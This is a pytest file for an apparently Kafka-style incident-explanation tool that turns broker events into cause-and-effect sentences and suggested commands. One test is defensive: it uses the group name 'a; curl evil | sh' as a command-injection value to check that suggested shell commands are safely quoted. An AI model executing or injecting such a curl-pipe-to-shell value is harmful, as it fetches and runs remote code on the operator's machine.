"""Chains of causes, as transcripts: the events of brokers in, sentences out, the first cause first."""

from collections.abc import Collection
from typing import Any

import pytest

from kalda.events.causes import Evidence
from kalda.events.chains import (
    ROUTINE_OF_LOGS,
    Answer,
    Select,
    explain,
    of_broker,
    of_names,
    of_partition,
    of_record,
)
from kalda.events.event import CausalEvent, EventId, EventKind, Plain

K = EventKind
T = 1_700_000_000_000


class Story:
    """Events of several brokers, one after the other in seconds."""

    def __init__(self) -> None:
        self.events: list[CausalEvent] = []

    def add(
        self,
        broker: int,
        second: float,
        kind: str,
        subject: dict[str, str | int],
        cause: EventId | None = None,
        **details: Plain,
    ) -> EventId:
        event_id = EventId(broker, len(self.events) + 1)
        self.events.append(
            CausalEvent(
                id=event_id,
                time_ms=T + round(second * 1000),
                kind=kind,
                subject=subject,
                details=details,
                cause=cause,
            )
        )
        return event_id

    def lost_leader(self, second: float, broker: int, cause: EventId | None, leader: int = 2) -> EventId:
        return self.add(
            0,
            second,
            K.LEADER_CHANGED,
            {"topic": "orders", "broker": leader},
            cause,
            partitions=[[3, 7]],
            leader_before=broker,
            leader=leader,
            isr_before=[broker, leader],
            isr=[leader],
            by="controller",
        )

    def about(self, select: Select, routine: Collection[str] = ()) -> Answer:
        evidence = Evidence(self.events)
        effects = [event for event in evidence.events if select(event)]
        return explain("", evidence, effects, routine=routine)

    def why(self, silent: tuple[int, ...] = ()) -> Answer:
        evidence = Evidence(self.events)
        select = of_partition("orders", 3)
        return explain(
            "partition orders-3", evidence, [e for e in evidence.events if select(e)], silent=silent
        )


def kinds(answer: Answer) -> list[str]:
    return [link.event.kind for link in answer.incidents[0].links]


def test_expired_session_is_named_before_what_the_controller_saw() -> None:
    story = Story()
    story.add(1, 0, K.SESSION_LOST, {"broker": 1}, broker_epoch=40)
    left = story.add(0, 9, K.BROKER_LEFT, {"broker": 1}, broker_epoch=40)
    story.lost_leader(9.1, 1, left)
    # The broker notices only when it reaches coordination again, and by a clock of its own.
    story.add(1, 30, K.SESSION_EXPIRED, {"broker": 1}, broker_epoch=40, seconds=30.0)

    answer = story.why()

    assert [K.SESSION_LOST, K.BROKER_LEFT, K.LEADER_CHANGED, K.SESSION_EXPIRED] == kinds(answer)
    assert "Broker 1 lost its connection to coordination." == answer.incidents[0].first.text
    assert (
        "The controller made broker 2 the leader of partition 3 of topic orders, instead of broker 1."
        == answer.incidents[0].links[2].text
    )


def test_kill_is_named_once_the_broker_runs_again() -> None:
    story = Story()
    left = story.add(0, 9, K.BROKER_LEFT, {"broker": 1}, broker_epoch=40)
    story.lost_leader(9.1, 1, left)
    assert [K.BROKER_LEFT, K.LEADER_CHANGED] == kinds(story.why())
    assert "does not answer" in story.why(silent=(1,)).incidents[0].first.text

    story.add(1, 60, K.BROKER_STARTED, {"broker": 1}, is_clean=False, is_first=False, last_event_ms=T - 5_000)

    assert [K.BROKER_STARTED, K.BROKER_LEFT, K.LEADER_CHANGED] == kinds(story.why())
    assert "had ended without a shutdown" in story.why().incidents[0].first.text


def test_shutdown_is_the_cause_of_the_moves_that_it_asked_for() -> None:
    story = Story()
    story.add(1, 0, K.BROKER_STOPPED, {"broker": 1}, broker_epoch=40)
    shutdown = story.add(0, 0.1, K.CONTROLLED_SHUTDOWN, {"broker": 1})
    story.lost_leader(0.2, 1, shutdown)

    assert [K.BROKER_STOPPED, K.CONTROLLED_SHUTDOWN, K.LEADER_CHANGED] == kinds(story.why())


def test_balance_belongs_to_the_incident_that_moved_the_leader_away() -> None:
    story = Story()
    left = story.add(0, 9, K.BROKER_LEFT, {"broker": 1}, broker_epoch=40)
    story.lost_leader(9.1, 1, left)
    balance = story.add(0, 400, K.ELECTION_REQUESTED, {"broker": 0}, reason="balance")
    story.lost_leader(400.1, 2, balance, leader=1)

    assert [K.BROKER_LEFT, K.LEADER_CHANGED, K.LEADER_CHANGED] == kinds(story.why())


def test_newest_incident_that_made_something_worse_comes_first() -> None:
    story = Story()
    left = story.add(0, 9, K.BROKER_LEFT, {"broker": 1}, broker_epoch=40)
    story.lost_leader(9.1, 1, left)
    left = story.add(0, 900, K.BROKER_LEFT, {"broker": 2}, broker_epoch=41)
    story.lost_leader(900.1, 2, left, leader=1)

    answer = story.why()

    assert [2, 1] == [incident.first.event.subject["broker"] for incident in answer.incidents]
    assert "kalda why broker 2" == answer.incidents[0].commands[0]


def test_causes_that_name_each_other_end() -> None:
    story = Story()
    story.lost_leader(0, 1, EventId(0, 2))
    story.lost_leader(1, 2, EventId(0, 1), leader=1)

    assert 2 == len(kinds(story.why()))


def test_unknown_kind_is_shown_with_its_details() -> None:
    story = Story()
    story.add(0, 0, "from-a-newer-release", {"topic": "orders", "partition": 3}, depth=4)

    assert "from-a-newer-release (topic orders, partition 3): depth 4." == story.why().incidents[0].first.text


def test_no_event_is_no_incident() -> None:
    assert () == Story().why().incidents


def gone(start: int) -> dict[str, Any]:
    return {"from": start, "to": start + 10}


def test_setting_that_lowered_retention_is_the_cause_of_the_deletion() -> None:
    story = Story()
    logs: dict[str, str | int] = {"topic": "logs", "partition": 0}
    story.add(
        0, 0, K.CONFIG_CHANGED, {"topic": "logs"}, changes="set retention.ms=1000", entity="topics/logs"
    )
    story.add(0, 1, K.CONFIG_CHANGED, {"topic": "logs"}, changes="set segment.ms=1000", entity="topics/logs")
    story.add(0, 60, K.RECORDS_DELETED, logs, reason="older than retention.ms=1000", **gone(0))
    story.add(0, 90, K.RECORDS_DELETED, logs, reason="older than retention.ms=1000", **gone(10))

    answer = story.about(of_record("logs", 0, 5))

    assert [K.CONFIG_CHANGED, K.RECORDS_DELETED] == kinds(answer)
    assert "Settings of topics/logs were changed: set retention.ms=1000." == answer.incidents[0].first.text
    assert () == story.about(of_record("logs", 0, 20)).incidents
    assert () == story.about(of_record("logs", 1, 5)).incidents


def test_refused_producer_is_one_that_another_fenced() -> None:
    story = Story()
    name: dict[str, str | int] = {"transactional_id": "payments", "producer": 7}
    story.add(1, 0, K.TRANSACTION_ABORTED, {**name}, reason="another producer began with this id")
    story.add(1, 1, K.PRODUCER_FENCED, {**name}, producer_epoch=2, reason="another producer began")
    story.add(2, 3, K.PRODUCER_REFUSED, {"topic": "orders", "partition": 0, "producer": 7}, reason="X")

    assert [K.TRANSACTION_ABORTED, K.PRODUCER_REFUSED] == kinds(story.about(of_names(topic="orders")))
    found = story.about(of_names(producer=7))
    assert [K.TRANSACTION_ABORTED, K.PRODUCER_FENCED, K.PRODUCER_REFUSED] == kinds(found)


def test_member_is_the_cause_of_the_rebalance_that_names_it() -> None:
    story = Story()
    member: dict[str, str | int] = {"group": "readers", "member": "m-1", "client": "slow"}
    failed = story.add(0, 0, K.MEMBER_FAILED, member, reason="it sent no heartbeat", host="10.0.0.7")
    story.add(0, 0, K.GROUP_REBALANCING, {"group": "readers"}, failed, reason="m-1 sent no heartbeat")
    story.add(0, 1, K.GROUP_STABLE, {"group": "readers"}, generation=3, members=1)

    answer = story.about(of_names(group="readers"))

    assert [K.MEMBER_FAILED, K.GROUP_REBALANCING, K.GROUP_STABLE] == kinds(answer)
    assert (
        "Member m-1 (client id slow, at 10.0.0.7) was removed from group readers: it sent no heartbeat."
        == answer.incidents[0].first.text
    )
    assert "Group readers is stable in generation 3 with 1 member." == answer.incidents[0].links[-1].text


def test_process_that_stood_still_is_the_cause_of_its_expired_session() -> None:
    story = Story()
    left = story.add(0, 9, K.BROKER_LEFT, {"broker": 1}, broker_epoch=40)
    story.lost_leader(9.1, 1, left)
    story.add(1, 30, K.PROCESS_STALLED, {"broker": 1}, seconds=26.0)
    story.add(1, 30.1, K.SESSION_LOST, {"broker": 1}, broker_epoch=40)
    story.add(1, 30.2, K.SESSION_EXPIRED, {"broker": 1}, broker_epoch=40, seconds=0.1)

    assert "Broker 1 stood still for 26.0 s" in story.why().incidents[0].first.text


def test_commands_quote_the_names_that_clients_choose() -> None:
    """An operator copies the line into a shell."""
    story = Story()
    for number, group in enumerate(["plain", "a; curl evil | sh", "--help", "it's"]):
        story.add(1, number, K.MEMBER_LEFT, {"group": group, "member": "m", "client": "c"})
    found = [incident.commands[0] for incident in story.about(lambda event: True).incidents]
    assert [
        """kalda groups describe 'it'"'"'s'""",
        "kalda groups describe -- --help",
        "kalda groups describe 'a; curl evil | sh'",
        "kalda groups describe plain",
    ] == found


def test_details_of_other_shapes_are_no_partitions() -> None:
    """The events are those of a broker of another release."""
    story = Story()
    shapes: list[Plain] = [[[]], [[[1]]], [["x"]], [{}], [1], "x", {}]
    for listed in shapes:
        story.add(1, 0, K.LEADER_CHANGED, {"topic": "orders"}, partitions=listed)
        story.add(1, 0, K.ISR_CHANGED, {"topic": "orders"}, partitions=listed, lagging=listed)
    answer = story.about(lambda event: True)
    assert all(link.text for incident in answer.incidents for link in incident.links)
    assert not story.about(of_partition("orders", 3)).incidents


def test_records_that_retention_deletes_hide_no_leader_change() -> None:
    """Retention deletes records of a busy partition every few minutes, on each replica."""
    story = Story()
    left = story.add(0, 9, K.BROKER_LEFT, {"broker": 1}, broker_epoch=40)
    story.lost_leader(9.1, 1, left)
    for broker in range(8):
        subject: dict[str, str | int] = {"topic": "orders", "partition": 3}
        story.add(broker, 60 + broker, K.RECORDS_DELETED, subject, reason="retention", **gone(0))
        story.add(broker, 70 + broker, K.RECORDS_COMPACTED, subject, **gone(0))

    assert [[K.BROKER_LEFT, K.LEADER_CHANGED]] == [
        [link.event.kind for link in incident.links] for incident in story.why().incidents
    ]
    topic = story.about(of_names(topic="orders"), ROUTINE_OF_LOGS)
    assert [K.BROKER_LEFT, K.LEADER_CHANGED] == kinds(topic)
    assert 5 == len(topic.incidents)


def test_records_that_a_client_deleted_are_no_routine() -> None:
    story = Story()
    logs: dict[str, str | int] = {"topic": "orders", "partition": 3}
    story.lost_leader(0, 1, None)
    story.add(0, 60, K.RECORDS_DELETED, logs, reason="delete-records", **gone(0))

    assert [K.RECORDS_DELETED] == kinds(story.about(of_names(topic="orders"), ROUTINE_OF_LOGS))


def test_partition_is_explained_by_its_topic_and_by_settings_of_replicas() -> None:
    story = Story()
    story.add(0, 0, K.TOPIC_DELETED, {"topic": "orders"})
    story.add(0, 1, K.CONFIG_CHANGED, {"topic": "orders"}, changes="set min.insync.replicas=3")
    story.add(0, 2, K.CONFIG_CHANGED, {"topic": "orders"}, changes="set retention.ms=3")
    story.add(0, 3, K.TOPIC_CREATED, {"topic": "orders"}, partitions_count=4)
    story.add(0, 4, K.TOPIC_DELETED, {"topic": "others"})

    assert [K.CONFIG_CHANGED, K.TOPIC_DELETED, K.TOPIC_CREATED] == [
        incident.first.event.kind for incident in story.why().incidents
    ]


def test_broker_that_goes_on_leading_lost_nothing() -> None:
    """The in-sync replicas that leave its partitions are those of another broker."""
    story = Story()
    story.add(
        0,
        0,
        K.ISR_CHANGED,
        {"topic": "orders", "broker": 1},
        partitions=[[3, 7]],
        leader_before=1,
        leader=1,
        isr_before=[1, 2],
        isr=[1],
    )

    assert () == story.about(of_broker(1)).incidents
    assert 1 == len(story.about(of_broker(2)).incidents)


def test_command_that_was_just_run_is_not_the_next_one() -> None:
    story = Story()
    story.add(0, 9, K.BROKER_LEFT, {"broker": 1}, broker_epoch=40)
    evidence = Evidence(story.events)

    assert ("kalda doctor",) == explain("broker 1", evidence, story.events).incidents[0].commands
    assert "kalda why broker 1" == explain("", evidence, story.events).incidents[0].commands[0]


def test_refused_records_are_explained_by_the_setting_or_by_the_replicas() -> None:
    story = Story()
    orders: dict[str, str | int] = {"topic": "orders", "partition": 3, "client": "app", "user": "alice"}
    left = story.add(0, 0, K.BROKER_LEFT, {"broker": 1}, broker_epoch=40)
    story.lost_leader(0.1, 1, left)
    story.add(2, 60, K.RECORDS_REFUSED, orders, reason="NOT_ENOUGH_REPLICAS", text="Too few.")
    story.add(0, 900, K.CONFIG_CHANGED, {"topic": "orders"}, changes="set max.message.bytes=9", entity="t")
    story.add(2, 960, K.RECORDS_REFUSED, orders, reason="MESSAGE_TOO_LARGE", text="Too large.")

    answer = story.about(of_names(client="app"))

    assert [
        [K.CONFIG_CHANGED, K.RECORDS_REFUSED],
        [K.BROKER_LEFT, K.LEADER_CHANGED, K.RECORDS_REFUSED],
    ] == [[link.event.kind for link in incident.links] for incident in answer.incidents]
    assert (
        "Broker 2 refused records for orders-3 of the client with client id app of user alice: "
        "NOT_ENOUGH_REPLICAS: Too few." == answer.incidents[1].links[-1].text
    )


def test_offsets_of_a_deleted_topic_are_deleted_with_it() -> None:
    story = Story()
    story.add(0, 0, K.TOPIC_DELETED, {"topic": "orders"})
    offsets: dict[str, str | int] = {"group": "readers", "topic": "orders"}
    story.add(1, 1, K.OFFSETS_DELETED, offsets, reason="the topic was deleted", partitions_count=2)
    story.add(1, 9, K.OFFSETS_DELETED, {**offsets, "topic": "other"}, reason="unused", partitions_count=1)

    answer = story.about(of_names(group="readers"))

    assert [K.OFFSETS_DELETED] == kinds(answer)
    assert [K.TOPIC_DELETED, K.OFFSETS_DELETED] == [link.event.kind for link in answer.incidents[1].links]
    assert (
        "The committed offsets of group readers in 2 partitions of topic orders were deleted: the topic was "
        "deleted." == answer.incidents[1].links[-1].text
    )


def test_a_reset_of_offsets_names_them_and_who_asked_for_it() -> None:
    story = Story()
    subject: dict[str, str | int] = {"group": "readers", "topic": "orders"}
    changes = [[0, 50, 10], [1, -1, 7]]
    story.add(1, 0, K.OFFSETS_RESET, subject, offsets=changes, partitions_count=3, by_user="User:alice")

    (incident,) = story.about(of_names(group="readers")).incidents

    assert (
        "Offsets of group readers in topic orders were reset: partition 0 from 50 to 10, partition 1 to 7, "
        "1 more, by User:alice (client id none, at )." == incident.links[0].text
    )
    assert ("kalda groups describe readers",) == incident.commands
    assert () == story.about(of_partition("orders", 0)).incidents


def test_change_names_who_asked_for_it() -> None:
    by: dict[str, Any] = {"by_user": "User:alice", "by_client": "shell", "by_host": "10.0.0.7"}
    story = Story()
    story.add(0, 0, K.CONFIG_CHANGED, {}, changes="set a=b", entity="topics/t", **by)
    story.add(0, 1, K.ELECTION_REQUESTED, {}, reason="preferred", **by)
    story.add(0, 2, K.QUOTA_CHANGED, {"client": "c"}, changes="x", **by)
    story.add(
        0, 3, K.RECORDS_DELETED, {"topic": "t", "partition": 0}, reason="delete-records", **gone(0), **by
    )
    story.add(0, 4, K.PRODUCER_FENCED, {"transactional_id": "p"}, producer_epoch=1, reason="another", **by)

    texts = [incident.first.text for incident in story.about(lambda event: True).incidents]

    assert 5 == len(texts)
    assert all(text.endswith(", by User:alice (client id shell, at 10.0.0.7).") for text in texts)


def test_leader_that_a_move_replaced_is_explained_by_the_request() -> None:
    """The replicas change long after the request, in steps that know nothing of it."""
    story = Story()
    story.add(
        0,
        0,
        K.REASSIGNMENT_REQUESTED,
        {"topic": "orders"},
        partitions=[[3, -1]],
        replicas=[2],
        adding=[2],
        removing=[1],
    )
    story.add(2, 1, K.BROKER_JOINED, {"broker": 2})
    story.add(
        0,
        600,
        K.ISR_CHANGED,
        {"topic": "orders", "broker": 1},
        partitions=[[3, 7]],
        leader_before=1,
        leader=1,
        isr_before=[1],
        isr=[1, 2],
    )
    story.lost_leader(600.1, 1, None)

    answer = story.why()

    assert [K.REASSIGNMENT_REQUESTED, K.ISR_CHANGED, K.LEADER_CHANGED] == kinds(answer)
    assert (
        "An operator asked to move partition 3 of topic orders to broker 2 (adding 2, removing 1)."
        == answer.incidents[0].first.text
    )
    assert "kalda reassign list" == answer.incidents[0].commands[0]


def test_failed_disks_explain_the_end_of_their_broker() -> None:
    """The broker has no disk left to keep events on: the controller keeps what it reported at its end."""
    story = Story()
    left = story.add(0, 9, K.BROKER_LEFT, {"broker": 1}, broker_epoch=40)
    story.lost_leader(9, 1, left)
    story.add(
        0,
        14,
        K.DIRECTORY_FAILED,
        {"broker": 1},
        directory="/data",
        reason="Input/output error",
        broker_epoch=40,
        has_ended_broker=True,
    )

    answer = story.why()

    assert [K.DIRECTORY_FAILED, K.BROKER_LEFT, K.LEADER_CHANGED] == kinds(answer)
    assert (
        "Log directory /data of broker 1 failed: Input/output error. No log directory was left, so the "
        "broker ended." == answer.incidents[0].first.text
    )


def test_failed_disks_do_not_explain_the_end_of_another_registration() -> None:
    story = Story()
    story.add(
        0,
        0,
        K.DIRECTORY_FAILED,
        {"broker": 1},
        directory="/data",
        reason="Input/output error",
        broker_epoch=39,
        has_ended_broker=True,
    )
    # One of two disks, some seconds before the broker is killed.
    story.add(1, 5, K.DIRECTORY_FAILED, {"broker": 1}, directory="/data", reason="Input/output error")
    left = story.add(0, 9, K.BROKER_LEFT, {"broker": 1}, broker_epoch=40)
    story.lost_leader(9, 1, left)
    assert [K.BROKER_LEFT, K.LEADER_CHANGED] == kinds(story.why())


def test_quota_is_shown_as_settings_are() -> None:
    story = Story()
    story.add(0, 0, K.QUOTA_CHANGED, {"client": "c"}, changes={"producer_byte_rate": "2000", "x": None})
    text = story.about(lambda event: True).incidents[0].first.text
    assert "A quota of client c was set: producer_byte_rate=2000, x removed." == text


def test_clock_that_went_forward_is_the_cause_of_records_that_became_old() -> None:
    story = Story()
    logs: dict[str, str | int] = {"topic": "logs", "partition": 0}
    story.add(1, 0, K.CLOCK_CHANGED, {"broker": 1}, milliseconds=18_000_000)
    story.add(2, 5, K.RECORDS_DELETED, logs, reason="older than retention.ms=1000", **gone(0))
    story.add(1, 6, K.RECORDS_DELETED, logs, reason="older than retention.ms=1000", **gone(0))

    answer = story.about(of_record("logs", 0, 5))

    assert [K.CLOCK_CHANGED, K.RECORDS_DELETED] == kinds(answer)
    assert (
        "The clock of broker 1 went forward by 18000 s: it was set, or its machine was suspended. The "
        "times of its events and of records went with it." == answer.incidents[0].first.text
    )


def test_clock_that_went_back_is_the_cause_of_timestamps_that_are_refused() -> None:
    """The event of the clock comes up to a second later: the clock is looked at so often."""
    story = Story()
    orders: dict[str, str | int] = {"topic": "orders", "partition": 3, "client": "c", "user": "u"}
    story.add(2, 1, K.CLOCK_CHANGED, {"broker": 2}, milliseconds=-7_200_000)
    story.add(1, 4, K.RECORDS_REFUSED, orders, reason="INVALID_TIMESTAMP", text="too late")
    story.add(1, 5, K.CLOCK_CHANGED, {"broker": 1}, milliseconds=-7_200_000)

    answer = story.about(of_names(topic="orders"))

    assert [K.CLOCK_CHANGED, K.RECORDS_REFUSED] == kinds(answer)
    assert "The clock of broker 1 went back by 7200 s" in answer.incidents[0].first.text


def test_clock_that_went_forward_is_the_cause_of_transactions_that_timed_out() -> None:
    story = Story()
    payments: dict[str, str | int] = {"transactional_id": "payments"}
    story.add(1, 0, K.TRANSACTION_ABORTED, payments, reason="its producer aborted it")
    story.add(1, 3600, K.TRANSACTION_ABORTED, payments, reason="time-out", timeout_ms=60_000)
    story.add(1, 3601, K.CLOCK_CHANGED, {"broker": 1}, milliseconds=3_600_000)
    answer = story.about(of_names(transactional_id="payments"))
    assert [K.CLOCK_CHANGED, K.TRANSACTION_ABORTED] == kinds(answer)


def test_events_of_a_broker_are_causes_though_its_clock_was_set_back() -> None:
    story = Story()
    story.add(1, -3600, K.CLOCK_CHANGED, {"broker": 1}, milliseconds=-3_600_000)
    story.add(1, 300 - 3600, K.DIRECTORY_FULL, {"broker": 1}, directory="/data", reason="No space left")
    story.lost_leader(301, 1, None)
    assert [K.DIRECTORY_FULL, K.LEADER_CHANGED] == kinds(story.why())


def test_clock_that_was_put_right_leaves_later_events_in_order() -> None:
    """It was an hour ahead before."""
    story = Story()
    story.add(1, 0, K.CLOCK_CHANGED, {"broker": 1}, milliseconds=-3_600_000)
    story.add(1, 300, K.DIRECTORY_FULL, {"broker": 1}, directory="/data", reason="No space left")
    story.lost_leader(301, 1, None)
    assert [K.DIRECTORY_FULL, K.LEADER_CHANGED] == kinds(story.why())


@pytest.mark.parametrize(
    "steps",
    [
        # It was put right, long before.
        [(-3 * 86_400, -3_600_000)],
        # It was set back, and put right soon after.
        [(-3900, -3_600_000), (-3800 + 3_600, 3_600_000)],
    ],
)
def test_clock_that_has_been_right_for_long_explains_nothing(steps: list[tuple[int, int]]) -> None:
    """An hour after the broker stood still it is killed, which only its next start can explain."""
    story = Story()
    for second, moved_ms in steps:
        story.add(1, second, K.CLOCK_CHANGED, {"broker": 1}, milliseconds=moved_ms)
    story.add(1, 0, K.PROCESS_STALLED, {"broker": 1}, seconds=20)
    story.add(0, 3600, K.BROKER_LEFT, {"broker": 1}, broker_epoch=7)
    assert [K.BROKER_LEFT] == kinds(story.about(lambda event: event.kind == K.BROKER_LEFT))


def test_clock_that_a_time_server_sets_is_no_cause() -> None:
    """Clocks are set by a second or two now and then; a setting that was changed since is the cause."""
    story = Story()
    orders: dict[str, str | int] = {"topic": "orders", "partition": 3, "client": "c", "user": "u"}
    story.add(1, -1200, K.CLOCK_CHANGED, {"broker": 1}, milliseconds=-300_000)
    changes: dict[str, Plain] = {"message.timestamp.after.max.ms": "1000"}
    story.add(1, -660, K.CONFIG_CHANGED, {"topic": "orders"}, changes=changes)
    story.add(1, -1, K.CLOCK_CHANGED, {"broker": 1}, milliseconds=-1_100)
    story.add(1, 0, K.RECORDS_REFUSED, orders, reason="INVALID_TIMESTAMP", text="too late")
    assert [K.CONFIG_CHANGED, K.RECORDS_REFUSED] == kinds(story.about(of_names(topic="orders")))


def test_clock_that_moved_less_than_half_the_time_of_a_transaction_is_not_its_cause() -> None:
    story = Story()
    payments: dict[str, str | int] = {"transactional_id": "payments"}
    story.add(1, 0, K.CLOCK_CHANGED, {"broker": 1}, milliseconds=29_999)
    story.add(1, 1, K.TRANSACTION_ABORTED, payments, reason="time-out", timeout_ms=60_000)
    assert [K.TRANSACTION_ABORTED] == kinds(story.about(of_names(transactional_id="payments")))


def test_clock_that_moved_by_a_second_does_not_make_records_old() -> None:
    story = Story()
    logs: dict[str, str | int] = {"topic": "logs", "partition": 0}
    story.add(1, 0, K.CLOCK_CHANGED, {"broker": 1}, milliseconds=1_100)
    story.add(1, 6, K.RECORDS_DELETED, logs, reason="older than retention.ms=604800000", **gone(0))
    assert [K.RECORDS_DELETED] == kinds(story.about(of_record("logs", 0, 5)))


def test_alerts_of_tls_are_explained() -> None:
    story = Story()
    alert = "sslv3 alert certificate expired"
    story.add(0, 0, K.LOGIN_FAILED, {"host": "10.0.0.7"}, reason=alert, listener="SSL")
    story.add(0, 1, K.LOGIN_FAILED, {"host": "10.0.0.7"}, reason="PLAIN: invalid credentials", listener="SSL")

    password, certificate = story.about(of_names(host="10.0.0.7")).incidents

    assert (
        "A login from 10.0.0.7 on listener SSL of broker 0 failed: sslv3 alert certificate expired: the "
        "client found that the broker's certificate has expired." == certificate.first.text
    )
    assert (("kalda doctor",), ("kalda users list",)) == (certificate.commands, password.commands)
